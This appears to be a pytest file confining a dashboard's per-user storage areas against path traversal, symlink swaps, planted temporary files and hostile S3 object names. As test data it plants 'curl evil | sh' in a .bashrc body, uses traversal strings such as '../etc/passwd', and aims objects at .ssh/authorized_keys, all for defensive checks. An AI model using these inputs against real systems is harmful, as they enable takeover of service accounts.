"""Per-user areas (``serve --user-root /srv/echo/{user}``): every path a user types resolves
inside their own area or is refused with one sentence, and nothing is written outside it.

The attacks are the ones from the shared-server report: the service's home as the download
folder, objects named ``.bashrc`` / ``.ssh/authorized_keys`` / ``sitecustomize.py``, output
folders pointed outside, symbolic links on the way, a temporary name planted in advance.
Every test lists the whole temporary tree before and after.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from dashboard.errors import ConfigError
from dashboard.processing.export import S3_ONLY, LocalOutput, OutputError, open_output
from dashboard.storage.area import AreaError, UserArea, area_name, check_user_root
from dashboard.storage.download import (
    DOWNLOADED,
    FAILED,
    DownloadError,
    download_objects,
)
from dashboard.storage.paths import AtomicFile


def tree(root: Path) -> dict[str, object]:
    """Every entry below ``root``: files with their bytes, links with their target, folders."""
    found = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            rel = path.relative_to(root).as_posix()
            if path.is_symlink():
                found[rel] = ("link", os.readlink(path))
            elif path.is_dir():
                found[rel] = ("dir",)
            else:
                found[rel] = ("file", path.read_bytes())
    return found


@pytest.fixture
def world(tmp_path):
    """A service home with dot files, the user root, and Alice's area (not created yet)."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("# the service's shell\n")
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA operator\n")
    root = tmp_path / "srv" / "echo"
    template = check_user_root(str(root / "{user}"), login=True)
    area = UserArea.for_user(template, "alice")
    return tmp_path, home, area


# -- the login name as a folder name ---------------------------------------------------------


@pytest.mark.parametrize("user", ["alice", "Bob.Smith", "alice@example.org", "jörg", "李雷",
                                  "a+b-c_d"])
def test_safe_login_names_are_kept(user):
    assert area_name(user) == user


@pytest.mark.parametrize("user", ["..", ".", "../bob", "a/b", "/etc", ".hidden", "-rf", "",
                                  "e\u202egnp.exe", "x" * 300, "tab\there", "a\x00b", "~root",
                                  "alice bob"])
def test_other_login_names_become_one_safe_component(user):
    name = area_name(user)
    assert "/" not in name and "\x00" not in name and name not in ("", ".", "..")
    assert not name.startswith((".", "-")) and "=" in name and len(name) <= 64 + 13
    assert all(c.isprintable() for c in name)


def test_distinct_logins_never_share_an_area():
    users = ["a/b", "a_b", "a:b", "a b", "A_b", ".a_b", "a_b=" + "0" * 12, "jörg",
             "jo\u0308rg"]  # the last two: the same name, NFC and NFD
    names = [area_name(u) for u in users]
    assert names[-1] == names[-2]  # normalised: one person, one area
    assert len(set(names[:-1])) == len(users) - 1


# -- the operator's template -----------------------------------------------------------------


@pytest.mark.parametrize("template, login, words", [
    ("/srv/echo", True, "must contain {user} with a login"),
    ("/srv/echo/{user}", False, "needs a login"),
    ("srv/{user}", True, "must be an absolute path"),
    ("/srv/../etc/{user}", True, "must not contain '..'"),
])
def test_bad_user_roots_are_refused(template, login, words):
    with pytest.raises(ConfigError) as info:
        check_user_root(template, login=login)
    assert words in str(info.value) and "\n" not in str(info.value)


def test_a_user_root_that_cannot_be_created_is_refused(tmp_path):
    (tmp_path / "file").write_text("x")
    with pytest.raises(ConfigError, match="cannot create"):
        check_user_root(str(tmp_path / "file" / "echo" / "{user}"), login=True)
    assert check_user_root(None, login=True) is None


def test_the_area_is_made_0700_on_first_use_only(world):
    tmp_path, _home, area = world
    assert (tmp_path / "srv" / "echo").is_dir() and not area.root.exists()  # start: the base only
    area.resolve("downloads", what="download folder")
    assert not area.root.exists()  # resolving writes nothing
    area.make_folders(area.resolve("downloads/ünï code", what="download folder"))
    assert stat.S_IMODE(area.root.stat().st_mode) == 0o700
    assert (area.root / "downloads" / "ünï code").is_dir()


# -- what a user types -----------------------------------------------------------------------


def test_relative_paths_resolve_inside_the_area(world):
    _tmp, _home, area = world
    assert area.resolve("", what="x") == area.root == area.resolve(" . ", what="x")
    assert area.resolve("runs/2024/ünïcode – ✓", what="x") == area.root / "runs/2024/ünïcode – ✓"
    assert area.shown(area.root / "runs" / "a") == "runs/a" and area.shown(area.root) == "your area"


@pytest.mark.parametrize("text, reason", [
    ("/home/svc", "is an absolute path"),
    ("//etc", "is an absolute path"),
    ("~", "starts with ~"),
    ("~/x", "starts with ~"),
    ("~root/.ssh", "starts with ~"),
    ("..", "contains a '..' segment"),
    ("a/../../b", "contains a '..' segment"),
    ("a\\..\\b", "contains a backslash"),
    ("s3://bucket/x", "not an s3:// address"),
    ("a\x00b", "NUL character"),
])
def test_paths_leading_outside_are_refused_with_one_sentence(world, text, reason):
    tmp_path, _home, area = world
    before = tree(tmp_path)
    with pytest.raises(AreaError) as info:
        area.resolve(text, what="download folder", example="downloads")
    message = str(info.value)
    assert reason in message and "\n" not in message and message.endswith(".")
    assert tree(tmp_path) == before


def _outside_link(area: UserArea, name: str, target: Path) -> Path:
    area.make_folders(area.root)
    link = area.root / name
    link.symlink_to(target, target_is_directory=target.is_dir())
    return link


def test_a_symlinked_component_in_the_middle_is_refused(world):
    tmp_path, home, area = world
    area.make_folders(area.root / "a")
    (area.root / "a" / "b").symlink_to(home)
    before = tree(tmp_path)
    with pytest.raises(AreaError, match="outside your area through a symbolic link"):
        area.resolve("a/b/c/d", what="output folder")
    with pytest.raises(AreaError, match="leads outside your area"):
        area.make_folders(area.root / "a" / "b" / "c")  # even if resolve were skipped
    assert tree(tmp_path) == before


def test_a_symlink_as_the_final_target_is_refused(world):
    tmp_path, home, area = world
    _outside_link(area, "out", home)
    before = tree(tmp_path)
    with pytest.raises(AreaError, match="symbolic link"):
        area.resolve("out", what="output folder")
    assert tree(tmp_path) == before


def test_a_symlink_that_stays_inside_is_allowed(world):
    _tmp, _home, area = world
    area.make_folders(area.root / "real")
    (area.root / "alias").symlink_to(area.root / "real")
    assert area.resolve("alias/x", what="x") == area.root / "alias" / "x"


def test_a_planted_temporary_name_is_never_opened(world, monkeypatch):
    """O_EXCL | O_NOFOLLOW: a link planted at the next temporary name (a race) is skipped."""
    import secrets

    _tmp, home, area = world
    area.make_folders(area.root)
    (area.root / ".f.part-aaaaaaaa").symlink_to(home / ".bashrc")  # the name drawn first
    (area.root / ".f.part-bbbbbbbb").write_text("another writer's file")
    draws = iter(["aaaaaaaa", "bbbbbbbb", "cccccccc"])
    monkeypatch.setattr(secrets, "token_hex", lambda n: next(draws))
    with AtomicFile(area.root / "f", area=area) as out:
        out.file.write(b"payload")
        out.commit()
    assert (area.root / "f").read_bytes() == b"payload"
    assert (home / ".bashrc").read_text() == "# the service's shell\n"
    assert (area.root / ".f.part-bbbbbbbb").read_text() == "another writer's file"


def test_a_folder_swapped_for_a_link_mid_write_cannot_send_the_file_outside(world):
    """The folder is held open: the temporary file is created, renamed and removed in it."""
    _tmp, home, area = world
    before = tree(home)
    with AtomicFile(area.root / "d" / "f", area=area) as out:
        out.file.write(b"x")
        os.rename(area.root / "d", area.root / "d-old")  # someone swaps the folder
        (area.root / "d").symlink_to(home)
        out.commit()
    assert tree(home) == before
    assert [p.name for p in (area.root / "d-old").iterdir()] == ["f"]  # where it began
    with (pytest.raises(AreaError, match="leads outside your area"),
          AtomicFile(area.root / "d" / "g", area=area) as out):  # the next write: refused
        out.commit()
    assert tree(home) == before


# -- downloads and outputs in the area -------------------------------------------------------


@pytest.mark.parametrize("folder", ["HOME", "~", "../../home", "/tmp"])
def test_a_download_folder_outside_the_area_writes_nothing(world, folder, s3, bucket):
    tmp_path, home, area = world
    folder = str(home) if folder == "HOME" else folder
    s3.client.put_object(Bucket=bucket, Key=".bashrc", Body=b"curl evil | sh\n")
    before = tree(tmp_path)
    with pytest.raises(DownloadError, match="must be a relative path inside your area"):
        download_objects(s3, bucket, [".bashrc"], folder, area=area)
    assert tree(tmp_path) == before


def test_hostile_object_names_land_inside_the_area(world, s3, bucket):
    tmp_path, _home, area = world
    objects = {".bashrc": b"curl evil | sh\n", ".ssh/authorized_keys": b"ssh-ed25519 ALICE\n",
               "sitecustomize.py": b"import os\n", "../escape.txt": b"x", "ok/ünï.h5": b"h5"}
    for key, data in objects.items():
        s3.client.put_object(Bucket=bucket, Key=key, Body=data)
    outside = {k: v for k, v in tree(tmp_path).items() if not k.startswith("srv")}
    report = download_objects(s3, bucket, list(objects), "", area=area)
    statuses = {r.key: r.status for r in report.results}
    assert statuses.pop("../escape.txt") == FAILED
    assert set(statuses.values()) == {DOWNLOADED}
    assert {k: v for k, v in tree(tmp_path).items() if not k.startswith("srv")} == outside
    assert (area.root / ".ssh" / "authorized_keys").read_bytes() == b"ssh-ed25519 ALICE\n"
    assert report.out_dir == area.root


def test_a_download_through_a_link_to_outside_fails_for_that_file(world, s3, bucket):
    _tmp, home, area = world
    _outside_link(area, ".ssh", home / ".ssh")
    s3.client.put_object(Bucket=bucket, Key=".ssh/authorized_keys", Body=b"ssh-ed25519 ALICE\n")
    before = tree(home)
    report = download_objects(s3, bucket, [".ssh/authorized_keys"], "", area=area)
    assert report.results[0].status == FAILED and "outside" in report.results[0].message
    assert tree(home) == before


@pytest.mark.parametrize("folder", ["HOME", "~/results", "../bob/processed"])
def test_an_output_folder_outside_the_area_is_refused(world, folder):
    tmp_path, home, area = world
    before = tree(tmp_path)
    with pytest.raises(OutputError, match="must be a relative path inside your area"):
        open_output(str(home) if folder == "HOME" else folder, area=area)
    assert tree(tmp_path) == before


def test_outputs_are_written_inside_the_area_and_a_final_link_is_replaced(world):
    _tmp, home, area = world
    output = open_output("processed/run 1", area=area)
    assert isinstance(output, LocalOutput) and output.location == "processed/run 1"
    output.check_writable()
    area.make_folders(output.folder)
    (output.folder / "x.png").symlink_to(home / ".bashrc")  # a link where an output goes
    output.write("x.png", b"png")
    assert (output.folder / "x.png").read_bytes() == b"png" and not (output.folder / "x.png").is_symlink()
    assert (home / ".bashrc").read_text() == "# the service's shell\n"


def test_a_server_without_areas_takes_only_s3_outputs(tmp_path):
    with pytest.raises(OutputError) as info:
        open_output(str(tmp_path / "x"), local=False)
    assert str(info.value) == S3_ONLY
    assert not (tmp_path / "x").exists()


# -- results never collide -------------------------------------------------------------------


def _stack(path: Path, seed: int) -> Path:
    import h5py
    import numpy as np

    rng = np.random.default_rng(seed)
    with h5py.File(path, "w") as f:
        f["/entry/data/data"] = rng.integers(1000, 4000, (23, 16, 16), dtype=np.uint16)
    return path


def _run(source: Path, out: Path, **kwargs):
    from dashboard.processing.batch import plan_batch, run_batch

    with plan_batch(str(source), out=str(out), fmt="npy", **kwargs) as plan:
        return run_batch(plan, workers=1)


def test_another_run_never_replaces_a_runs_results(tmp_path):
    """Bob's ``secret.h5`` (another file of the same name) into the folder holding Alice's run:
    refused, her frames and provenance untouched; her own run again (same run) goes ahead."""
    from dashboard.processing.batch import InvalidBatch

    (tmp_path / "alice").mkdir()
    (tmp_path / "bob").mkdir()
    alice = _stack(tmp_path / "alice" / "secret.h5", 1)
    bob = _stack(tmp_path / "bob" / "secret.h5", 2)
    out = tmp_path / "out"
    assert _run(alice, out).ok
    before = tree(out)
    for other in ({"source": bob}, {"source": alice, "sigma": 2.0}):
        with pytest.raises(InvalidBatch) as info:
            _run(other.pop("source"), out, **other)
        message = str(info.value)
        assert "holds the results of another run" in message and "choose another output" in message
        assert str(alice) not in message  # the other run's source is not shown
        assert tree(out) == before
    assert _run(alice, out).ok  # the same run, redone
    assert _run(bob, tmp_path / "bob-out").ok


def test_outputs_that_no_run_recorded_are_not_replaced(tmp_path):
    from dashboard.processing.batch import InvalidBatch

    source = _stack(tmp_path / "scan.h5", 3)
    out = tmp_path / "out"
    out.mkdir()
    (out / "scan_000021.npy").write_bytes(b"someone's file")
    with pytest.raises(InvalidBatch, match="already holds scan_000021.npy, which no run recorded"):
        _run(source, out)
    assert tree(out) == {"scan_000021.npy": ("file", b"someone's file")}


# -- serve --user-root --------------------------------------------------------------------------


@pytest.fixture
def no_serve(monkeypatch):
    import dashboard.app

    calls = []
    monkeypatch.setattr(dashboard.app, "serve", lambda **kwargs: calls.append(kwargs))
    for name in ("ECHO_S3_USER_ROOT", "ECHO_S3_BASIC_AUTH", "ECHO_S3_COOKIE_SECRET",
                 "PANEL_COOKIE_SECRET", "BOKEH_COOKIE_SECRET"):
        monkeypatch.delenv(name, raising=False)
    return calls


LOGIN = ["--basic-auth", "a-shared-password-123", "--cookie-secret", "c" * 40]


def test_serve_checks_the_user_root_before_it_starts(tmp_path, capsys, no_serve, monkeypatch):
    from dashboard.cli import main

    for argv, words in (([*LOGIN, "--user-root", str(tmp_path)], "must contain {user}"),
                        (["--user-root", str(tmp_path / "{user}")], "needs a login"),
                        ([*LOGIN, "--user-root", "srv/{user}"], "absolute path")):
        assert main(["serve", *argv]) == 2
        err = capsys.readouterr().err
        assert words in err and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert no_serve == []
    assert main(["serve", *LOGIN, "--user-root", str(tmp_path / "srv" / "{user}")]) == 0
    assert no_serve[-1]["settings"].user_root == str(tmp_path / "srv" / "{user}")
    assert (tmp_path / "srv").is_dir()  # the fixed part, made at start
    monkeypatch.setenv("ECHO_S3_USER_ROOT", str(tmp_path / "env" / "{user}"))
    assert main(["serve", *LOGIN]) == 0
    assert no_serve[-1]["settings"].user_root == str(tmp_path / "env" / "{user}")
    monkeypatch.delenv("ECHO_S3_USER_ROOT")
    assert main(["serve", *LOGIN]) == 0 and no_serve[-1]["settings"].user_root is None


# -- what the browser receives (no server folder) --------------------------------------------


def test_a_zip_streams_in_bounded_pieces_and_names_what_it_left_out(s3, bucket):
    import io
    import zipfile

    from dashboard.storage.stream import CHUNK_SIZE, ERRORS_NAME, zip_chunks

    objects = {f"run/part{i}.bin": os.urandom(3 * CHUNK_SIZE + 17 * i) for i in range(3)}
    for key, data in objects.items():
        s3.client.put_object(Bucket=bucket, Key=key, Body=data)
    pieces = list(zip_chunks(s3, bucket, [*objects, "run/missing.bin", "../etc/passwd", "a//b"]))
    assert max(len(p) for p in pieces) <= CHUNK_SIZE + 4096  # one chunk (plus a header) at a time
    with zipfile.ZipFile(io.BytesIO(b"".join(pieces))) as archive:
        assert archive.testzip() is None
        assert {k: archive.read(k) for k in objects} == objects
        errors = archive.read(ERRORS_NAME).decode()
    assert "run/missing.bin" in errors and "'../etc/passwd': not saved" in errors
    assert "'a//b': not saved" in errors and len(errors.splitlines()) == 3


def test_one_object_for_the_browser_is_checked_before_its_last_chunk(s3, bucket):
    from dashboard.errors import EchoError
    from dashboard.storage.stream import browser_stream

    s3.client.put_object(Bucket=bucket, Key="x/one.h5", Body=b"h5" * 1000)
    size, chunks = browser_stream(s3, bucket, ["x/one.h5"])
    assert size == 2000 and b"".join(chunks) == b"h5" * 1000
    with pytest.raises(EchoError, match="missing.h5"):
        browser_stream(s3, bucket, ["missing.h5"])
